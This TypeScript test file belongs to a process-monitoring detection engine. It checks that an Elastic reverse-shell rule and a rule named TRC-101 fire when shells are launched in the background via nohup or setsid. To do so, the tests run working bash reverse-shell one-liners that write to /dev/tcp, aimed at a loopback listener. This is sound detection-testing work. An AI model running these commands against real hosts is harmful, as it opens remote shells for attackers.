/**
 * Elastic rule 259be2d8 ("Potential Reverse Shell via Background Process") from its own TOML
 * and EQL text, on real exec events of this host's kernel: a real nohup launched from bash
 * and a real setsid launched from sh give the Elastic finding and TRC-101 as well; nohup of
 * a harmless command and a setsid started by python give no Elastic finding.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Engine, ProcHostView, ProcessTable, type Finding } from "sockeye";
import { loadRuleCatalog } from "../../src/rules/catalog.js";
import { PYTHON, Session, kernelTier, run, tcpListener } from "./harness.js";

const tier = kernelTier();
const ELASTIC_ID = "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39";

interface ProcessFinding extends Finding {
  finding?: { Port: string };
}

describe.runIf(tier.run)("kernel: Elastic rule 259be2d8 on real background shells", () => {
  let session: Session;
  const findings: ProcessFinding[] = [];

  beforeAll(async () => {
    session = await Session.open();
    const processes = new ProcessTable({ host: new ProcHostView() });
    processes.seedFromProc();
    const engine = new Engine({ rules: loadRuleCatalog().rules, processes });
    session.sensor.subscribe((events) => {
      for (const e of events) for (const f of engine.handle(e)) findings.push(f);
    });
  });
  afterAll(() => session?.close());

  /** Elastic findings whose process carries `port` in an argument (the test's own shell). */
  const elasticFor = (port: number) =>
    findings.filter((f) => f.rule.id === ELASTIC_ID && (f.process.args ?? []).some((a) => a.includes(`/${port} `)));
  const trc101For = (port: number) => findings.filter((f) => f.rule.id === "TRC-101" && f.finding?.Port === String(port));

  /** Runs `launch(port)` against a fresh loopback catcher; returns that port. */
  async function attack(launch: (port: number) => Promise<unknown>): Promise<number> {
    const catcher = await tcpListener("127.0.0.1", "exit\n");
    try {
      await launch(catcher.port);
      // The background shell outlives its launcher: give it time to connect and be seen.
      await session.settle(700);
    } finally {
      await catcher.close();
    }
    return catcher.port;
  }

  it("nohup bash -c '… /dev/tcp … 0>&1' & launched from bash", async () => {
    const port = await attack((p) =>
      run("timeout", ["-s", "KILL", "5", "bash", "-c", `nohup bash -c 'bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1' >/dev/null 2>&1 & wait`]),
    );
    const elastic = elasticFor(port);
    expect(elastic).toHaveLength(1);
    expect(elastic[0]).toMatchObject({
      event: { kind: "alert", category: ["process"] },
      rule: { id: ELASTIC_ID, name: "Potential Reverse Shell via Background Process", severity: "medium", risk_score: 47 },
      process: { name: "nohup", args: ["nohup", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], parent: { name: "bash" } },
      threat: {
        framework: "MITRE ATT&CK",
        tactic: { id: ["TA0002", "TA0011"] },
        technique: { id: ["T1059", "T1071"], subtechnique: { id: ["T1059.004"] } },
      },
    });
    expect(trc101For(port).length).toBeGreaterThanOrEqual(1);
  });

  it("setsid bash -c '… /dev/tcp … 0>&1' launched from sh", async () => {
    // `; true` keeps dash from exec'ing setsid in its own place, so setsid's parent is sh.
    const port = await attack((p) =>
      run("timeout", ["-s", "KILL", "5", "sh", "-c", `setsid bash -c 'bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1'; true`]),
    );
    const elastic = elasticFor(port);
    expect(elastic).toHaveLength(1);
    expect(elastic[0]).toMatchObject({ process: { name: "setsid", parent: { name: "sh" } }, rule: { id: ELASTIC_ID } });
    expect(trc101For(port).length).toBeGreaterThanOrEqual(1);
  });

  it("stays silent for nohup sleep from bash and for setsid started by python", async () => {
    const before = findings.filter((f) => f.rule.id === ELASTIC_ID).length;
    const sleeper = await run("bash", ["-c", "nohup sleep 0.2 >/dev/null 2>&1; true"]);
    expect(sleeper.status).toBe(0);
    const port = await attack((p) =>
      run("timeout", [
        "-s", "KILL", "5", PYTHON, "-c",
        `import subprocess; subprocess.run(["setsid", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1"])`,
      ]),
    );
    // The python-launched one is still a reverse shell: TRC-101 sees it, the Elastic rule by
    // its own text (parent must be a shell) does not.
    expect(trc101For(port).length).toBeGreaterThanOrEqual(1);
    expect(elasticFor(port)).toEqual([]);
    expect(findings.filter((f) => f.rule.id === ELASTIC_ID).length).toBe(before);
  });
});
